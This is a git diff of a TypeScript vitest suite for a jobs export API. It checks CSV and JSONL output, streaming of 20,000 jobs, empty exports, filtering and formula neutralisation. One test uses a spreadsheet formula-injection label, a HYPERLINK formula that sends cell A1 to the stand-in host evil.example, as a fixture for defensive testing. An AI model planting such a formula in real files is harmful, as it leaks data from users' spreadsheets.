@@ -1,80 +1,68 @@
-import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type Db, openDatabase, users } from '@/lib/db';
-import { type RunningApp, startApp } from '../../setup/app';
-import { type Client, signedIn } from '../../setup/client';
+import { describe, expect } from 'vitest';
+import { users } from '@/lib/db';
+import { signedIn } from '../../setup/client';
 import { addJobs } from '../../setup/many-jobs';
-import { temporaryFolder } from '../../setup/temp-folder';
+import { test } from '../../setup/test';
 
 const COUNT = 20_000;
 const START = Date.UTC(2026, 0, 1);
-/** Line breaks, a number that JSON.parse would change, an escape. */
+/** Line breaks, a number that JSON.parse would round, an escape. */
 const BODY = '{"status" : "success",\r\n "big":12345678901234567890,"note":"\\n\\u00e9"}';
 
-const folder = temporaryFolder();
-const url = `file:${join(folder.path, 'bottega.db')}`;
-let app: RunningApp;
-let database: { db: Db; close: () => void };
+const it = test
+  /** Signs a new user in. */
+  .extend('newUser', { scope: 'file' }, ({ app, database }) => async () => {
+    const client = await signedIn(app.url);
+    const [user] = await database.db.select().from(users).where(eq(users.email, client.email));
+    return { client, id: String(user?.id) };
+  })
+  /** A user with COUNT jobs in the history. */
+  .extend('owner', { scope: 'file' }, async ({ database, newUser }) => {
+    const owner = await newUser();
+    const added = ids.map((id, n) => ({ id, at: START + n, label: `Zimmer ${n}, "Süd"` }));
+    await addJobs(database.db, owner.id, added);
+    return owner;
+  });
+const ids = Array.from({ length: COUNT }, (_, n) => `job-${String(n).padStart(6, '0')}`);
 
-beforeAll(async () => {
-  app = await startApp({ env: { DATABASE_URL: url } });
-  database = await openDatabase(url);
-});
-afterAll(async () => {
-  await app?.stop();
-  database?.close();
-  folder.remove();
-});
-
-async function somebody(): Promise<{ client: Client; id: string }> {
-  const client = await signedIn(app.url);
-  const [user] = await database.db.select().from(users).where(eq(users.email, client.email));
-  return { client, id: String(user?.id) };
-}
 const rowsOf = (csv: string) =>
   parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
 const linesOf = (jsonl: string) => jsonl.split('\n').slice(0, -1);
 
 describe('20,000 jobs', () => {
-  let owner: { client: Client; id: string };
-  const ids = Array.from({ length: COUNT }, (_, n) => `job-${String(n).padStart(6, '0')}`);
-  beforeAll(async () => {
-    owner = await somebody();
-    const added = ids.map((id, n) => ({ id, at: START + n, label: `Zimmer ${n}, "Süd"` }));
-    await addJobs(database.db, owner.id, added);
-    ids.reverse();
-  });
-
-  it.each(['csv', 'jsonl'])('come once each as %s, while others are added', async (format) => {
-    const response = await owner.client.fetch(`/api/jobs/export?format=${format}&q=job-`);
-    const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader();
-    let text = '';
-    let chunks = 0;
-    for (;;) {
-      const { done, value } = (await reader?.read()) ?? { done: true };
-      if (done) break;
-      text += value;
-      chunks += 1;
-      if (chunks > 5) continue;
-      const id = `job-late-${format}-${chunks}`;
-      await addJobs(database.db, owner.id, [{ id, at: START + 2 * COUNT + chunks }]);
-    }
-    expect(chunks).toBeGreaterThan(5);
-    const seen = (
-      format === 'csv' ? rowsOf(text) : linesOf(text).map((line) => JSON.parse(line))
-    ).map(({ id }) => id);
-    const late = seen.filter((id) => id.startsWith('job-late-'));
-    expect(seen.slice(late.length)).toEqual(ids);
-    // Only those of the run before: what is added under way stands before the first page.
-    expect(late.filter((id) => id.startsWith(`job-late-${format}`))).toEqual([]);
-  });
+  it.for(['csv', 'jsonl'])(
+    'are each exported once as %s while jobs are added',
+    async (format, { database, owner }) => {
+      const response = await owner.client.fetch(`/api/jobs/export?format=${format}&q=job-`);
+      const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader();
+      let text = '';
+      let chunks = 0;
+      for (;;) {
+        const { done, value } = (await reader?.read()) ?? { done: true };
+        if (done) break;
+        text += value;
+        chunks += 1;
+        if (chunks > 5) continue;
+        const id = `job-late-${format}-${chunks}`;
+        await addJobs(database.db, owner.id, [{ id, at: START + 2 * COUNT + chunks }]);
+      }
+      expect(chunks).toBeGreaterThan(5);
+      const seen = (
+        format === 'csv' ? rowsOf(text) : linesOf(text).map((line) => JSON.parse(line))
+      ).map(({ id }) => id);
+      const late = seen.filter((id) => id.startsWith('job-late-'));
+      expect(seen.slice(late.length)).toEqual(ids.toReversed());
+      // Jobs added during the export are newer than its first page and are not part of it.
+      expect(late.filter((id) => id.startsWith(`job-late-${format}`))).toEqual([]);
+    },
+  );
 });
 
-describe('a file', () => {
-  it('says what it is and when it was made', async () => {
-    const { client } = await somebody();
+describe('an exported file', () => {
+  it('names its media type and the date of the export', async ({ newUser }) => {
+    const { client } = await newUser();
     for (const [format, type] of [
       ['csv', 'text/csv; charset=utf-8'],
       ['jsonl', 'application/x-ndjson; charset=utf-8'],
@@ -88,8 +76,8 @@ describe('a file', () => {
     }
   });
 
-  it('of an empty history has its header, or nothing', async () => {
-    const { client } = await somebody();
+  it('of an empty history is a CSV header or an empty JSONL file', async ({ newUser }) => {
+    const { client } = await newUser();
     const csv = Buffer.from(await (await client.fetch('/api/jobs/export')).arrayBuffer());
     expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     expect(csv.subarray(3).toString()).toBe(
@@ -98,8 +86,12 @@ describe('a file', () => {
     expect(await (await client.fetch('/api/jobs/export?format=jsonl')).text()).toBe('');
   });
 
-  it('has the same fields in both formats, and runs no formula', async () => {
-    const { client, id } = await somebody();
+  it('has the same fields in both formats and neutralises formulas', async ({
+    app,
+    database,
+    newUser,
+  }) => {
+    const { client, id } = await newUser();
     const label = '=HYPERLINK("https://evil.example?"&A1,"x")';
     const failed = '{"status":"failed","error":"+49 is no room"}';
     await addJobs(database.db, id, [
@@ -128,8 +120,8 @@ describe('a file', () => {
     expect(objects[1].body).toEqual(JSON.parse(BODY));
   });
 
-  it('keeps to the filter', async () => {
-    const { client, id } = await somebody();
+  it('contains only the jobs that match the filter', async ({ database, newUser }) => {
+    const { client, id } = await newUser();
     await addJobs(database.db, id, [
       { id: 'filter-1', at: START },
       { id: 'filter-2', at: START + 1, state: 'failed' },
